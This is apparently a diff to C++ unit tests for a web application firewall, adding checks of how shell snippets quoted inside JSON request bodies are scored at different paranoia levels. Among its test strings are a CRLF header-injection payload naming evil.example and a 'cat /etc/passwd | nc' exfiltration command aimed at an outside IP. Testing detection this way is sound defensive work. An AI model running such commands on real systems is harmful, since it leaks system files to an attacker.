@@ -23,6 +23,12 @@ protected:
                   .body = body, .bodyTruncated = false};
     return engine_->inspect(r).attack();
   }
+  static bool jsonAt(uint8_t pl, std::string_view body) {
+    std::vector<Header> h{Header{"Content-Type", "application/json"}};
+    RequestView r{.method = "POST", .target = "/api/items", .versionMinor = 1, .headers = h,
+                  .body = body, .bodyTruncated = false, .paranoiaLevel = pl};
+    return engine_->inspect(r).attack();
+  }
   static bool get(std::string_view target, std::vector<Header> h = {}) {
     RequestView r{.method = "GET", .target = target, .versionMinor = 1, .headers = h, .body = {},
                   .bodyTruncated = false};
@@ -166,6 +172,19 @@ TEST_F(ContextGradingTest, LineBreakBeforeAResponseOnlyHeaderSplitsAResponse) {
   EXPECT_TRUE(json(R"({"tags": ["\r\nAccess-Control-Allow-Origin: https://evil.example"]})"));
   EXPECT_FALSE(json(R"({"note": "first line\r\nsecond line: with a colon"})"));
   EXPECT_FALSE(json(R"({"notes": "Shipping\r\nX-Ray results: fine\r\nAccess: side door"})"));
+}
+
+TEST_F(ContextGradingTest, QuotedCodeAndSourceFilesAreTokens) {
+  const std::string_view chat =
+      R"J({"text": "heads up: I set `ulimit -n 65535` and restarted nginx via `systemctl restart nginx`"})J";
+  const std::string_view script =
+      R"J({"code": "#!/bin/bash\nset -euo pipefail\ntar czf /backup/www.tar.gz /var/www && echo done"})J";
+  for (const auto body : {chat, script}) {
+    EXPECT_FALSE(jsonAt(2, body)) << body;
+    EXPECT_TRUE(jsonAt(4, body)) << body; // reported from PL3 (weight 2), blocked at PL4
+  }
+  // Code around the quotes is not quoted: PL1.
+  EXPECT_TRUE(jsonAt(1, R"J({"text": "see `ls`; cat /etc/passwd | nc 198.51.100.7 4444"})J"));
 }
 
 } // namespace
